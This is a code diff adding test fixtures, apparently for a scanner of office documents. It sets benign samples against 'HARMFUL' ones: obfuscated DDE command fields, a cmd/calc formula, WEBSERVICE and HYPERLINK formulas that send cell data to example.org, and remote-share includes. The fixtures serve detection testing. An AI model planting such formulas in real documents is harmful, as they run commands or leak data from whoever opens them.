@@ -95,7 +95,75 @@ def linked(kind: str, target: str) -> bytes:
     return made.packed({**PACKAGE, "word/_rels/settings.xml.rels": LINK.format(kind=kind, target=target)})
 
 
+def run(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def field(*inside: str, shown: str = "") -> str:
+    """A field of Word: its instruction, which other fields may stand in, and what it shows."""
+    told = "".join(
+        one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in inside
+    )
+    text = f"<w:r><w:t>{shown}</w:t></w:r>"
+    return f"{run('begin')}{told}{run('separate')}{text}{run('end')}"
+
+
+def with_fields(*fields: str) -> bytes:
+    return made.docx("<w:p>" + "".join(fields) + "</w:p>")
+
+
+def rich(*fields: str) -> bytes:
+    return "".join(["{\\rtf1\\ansi ", *(f"{{\\field{one}}}" for one in fields), "}"]).encode()
+
+
+def formula_of(text: str) -> bytes:
+    words = text.replace("&", "&amp;").replace("<", "&lt;")
+    return made.xlsx({"A": made.sheet((f"<c r='A1'><f>{words}</f><v>1</v></c>", 2))})
+
+
+def open_sheet(text: str) -> bytes:
+    words = text.replace("&", "&amp;").replace('"', "&quot;")
+    cells = f'<table:table-cell xmlns:table="t" table:formula="{words}"/>'
+    return made.packed({"content.xml": f"<a>{cells}</a>"})
+
+
+DDE_IN_NUMBERS = field(" QUOTE 68 68 69 65 85 84 79 ", shown="x")
 PAPERS = {
+    "fields.docx": with_fields(
+        field(" TOC \\o &quot;1-3&quot; \\h ", field(" PAGEREF _Toc1 \\h ", shown="3"), shown="目录"),
+        field("eq \\o\\ac(○,1)"),
+        field(" PA", "GE "),
+        field(" = ", field("NUMPAGES", shown="4"), " - 1"),
+        field(" IF ", field(" MERGEFIELD DDE ", shown="a"), ' = "b" "c" "d"'),
+        field(" ADDIN EN.CITE "),
+        field("INCLUDEPICTURE &quot;http://example.org/a.png&quot; \\* MERGEFORMATINET"),
+        field(" DATE \\@ yyyy "),
+        '<w:fldSimple w:instr=" PAGE "/>',
+        field(" _Ref12 \\h "),
+        field(""),
+    ),
+    "fields.doc": made.doc(
+        "目录\x13 TOC \\o \x14a\x13 PAGEREF _Toc1 \x141\x15\x15", b"\x13 FORM", b"TEXT \x01\x14x\x15"
+    ),
+    "fields.rtf": rich(
+        '{\\*\\fldinst {\\rtlch\\fcs1 \\af0  HYPERLINK }{\\b "http://example.org/dde"}{\\*\\datafield 00d0}}{\\fldrslt {x}}',
+        "{\\*\\fldinst{ P}{AGE }}{\\fldrslt DDE}",
+        "{\\*\\fldinst \\u80?AGE}",
+        "\\flddirty{\\*\\fldinst {\\'50AGE}}",
+    ),
+    "formulas.xlsx": made.xlsx(
+        {
+            "A": made.sheet(
+                ('<c><f>SUM(A1:A3)&amp;"|"&amp;B!A1</f></c>', "WEBSERVICE(1) and DDE(2) | three! &#10;"),
+                (
+                    '<c><f>HYPERLINK("#A!A1","up")+HYPERLINK("图纸\\"&amp;A1&amp;".pdf")+HYPERLINK(B2,"x")</f></c>',
+                    '<c hidden="1"><f>HYPERLINK("https://example.org/x","x")</f></c>',
+                ),
+            )
+        }
+    ),
+    "formulas.ods": open_sheet('of:=SUM([.A1:.A3])&"|"&HYPERLINK("https://example.org/";"x")&[.B1]'),
+    "formulas.csv": b'a,"=HYPERLINK(""https://example.org"",""x"")",=SUM(A1:A2)\nimage (1),- please call (021)\n',
     "预算.xlsx": made.xlsx({"Sheet1": made.sheet(("a", 1))}),
     "议程.docx": made.docx("议程"),
     "with a sheet.docx": made.packed(
@@ -143,6 +211,53 @@ def with_packed_script(dictionary: bytes) -> bytes:
 
 
 HARMFUL = {
+    "first word of fields within.docx": with_fields(field(DDE_IN_NUMBERS, " c:\\\\x calc")),
+    "first word half of a field within.docx": with_fields(field("D", field("QUOTE 68 69", shown="DE"), " x")),
+    "first word from a bookmark.docx": with_fields(field(" SET a DDE "), field(field(" REF a "), " x ")),
+    "in letters of the text.docx": with_fields(
+        run("begin"), "<w:r><w:t>DD</w:t></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>", run("end")
+    ),
+    "in a simple field.docx": with_fields('<w:fldSimple w:instr="&#68;DE x y"/>'),
+    "never ends.docx": with_fields(run("begin"), "<w:r><w:instrText>dde x</w:instrText></w:r>"),
+    "linked.docx": with_fields(field(" LINK Excel.Sheet.12 c:\\\\a.xlsx R1C1 \\a ")),
+    "other file.docx": with_fields(field(' INCLUDETEXT "\\\\\\\\far\\\\a.docx" ')),
+    "picture of a share.docx": with_fields(field(' INCLUDEPICTURE "\\\\\\\\far\\\\a.png" \\d ')),
+    "exchange in sevens.docx": made.packed(
+        {**PACKAGE, "word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><w:x>+AGQ-de</w:x>'}
+    ),
+    "within.doc": made.doc("\x13 \x13 QUOTE 68 68 69 \x14DDE\x15 x y \x14\x15"),
+    "across pieces.doc": made.doc(b"\x13 D", "D", b"EAUTO x y \x14\x15"),
+    "in groups.rtf": rich("{\\*\\fldinst {D}{DE}{AUTO c:\\\\x}}{\\fldrslt x}"),
+    "in groups with words.rtf": rich("{\\*\\fldinst {\\b D}{\\i\\f1 D}{\\cf2 E} x}"),
+    "in groups nobody reads.rtf": rich("{\\*\\fldinst {\\*\\nobody PAGE }{DDE x}}"),
+    "in groups of another kind.rtf": rich("{\\*\\fldinst {\\comment PAGE }{DD}{E x}}"),
+    "in numbers.rtf": rich("{\\*\\fldinst {\\'44\\u68?\\uc2\\u69xx x}}"),
+    "in lines.rtf": rich("{\\*\\fldinst D\nDE\r\n x}"),
+    "in two instructions.rtf": rich("{\\*\\fldinst D}{\\*\\fldinst DE x}"),
+    "without a field.rtf": b"{\\rtf1{\\*\\fldinst {D}{DE x}}}",
+    "fields within.rtf": rich("{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt x}} c x}"),
+    "in the shown part of another.rtf": rich(
+        "{\\*\\fldinst PAGE}{\\fldrslt {\\field{\\*\\fldinst {D}DE x}}}"
+    ),
+    "exchange.ods": open_sheet('of:=DDE("soffice";"/etc/x";"a")'),
+    "fetches.ods": open_sheet('of:=1+COM.MICROSOFT.WEBSERVICE ("http://example.org/"&[.A1])'),
+    "carries away.ods": open_sheet('of:=HYPERLINK("http://example.org/?"&[.A1];"x")'),
+    "a named formula.ods": made.packed({"content.xml": '<a t:expression="of:=dde(1;2;3)" xmlns:t="t"/>'}),
+    "starts by a click.ods": open_sheet('of:=HYPERLINK("vnd.sun"&".star.script:x")'),
+    "flat.ods": b'<?xml version="1.0"?><office:document table:formula="of:=DDE(1;2;3)"/>',
+    "flat.fods": b'<?xml version="1.0"?><office:document table:formula="of:=DDE(1;2;3)"/>',
+    "fetches.xlsx": formula_of('_xlfn.WEBSERVICE("http://example.org/"&A1)'),
+    "fetches a picture.xlsx": formula_of('_xlfn.IMAGE("http://example.org/a.png")'),
+    "exchange.xlsx": formula_of("1+cmd|'/c \"calc\"'!A0"),
+    "live.xlsx": formula_of('RTD("a.b",,"c")'),
+    "carries away.xlsx": formula_of('HYPERLINK("http://example.org/?"&A1,"x")'),
+    "starts by a click.xlsx": formula_of('HYPERLINK("search-ms:query=x","x")'),
+    "in pieces.xlsx": made.xlsx({"A": made.sheet(("<c><f>WEB<!-- -->SERV<![CDATA[ICE]]>(A1)</f></c>",))}),
+    "fetches.csv": b'a\n1,"=1+WEBSERVICE(""http://example.org/""&A1)"\n',
+    "carries away.csv": b'a\n=HYPERLINK("http://example.org/?"&A1;"x")\n',
+    "fetches.xls": made.compound(
+        {"Workbook": b"\x09\x08\x02\x00\x00\x06" + "_xlfn.WEBSERVICE".encode("utf-16-le")}
+    ),
     "packing far ahead.pdf": with_packed_script(
         b"<< /Filter /FlateDecode " + b" " * 3000 + b"/Type /ObjStm /N 1 /First 4 >>"
     ),
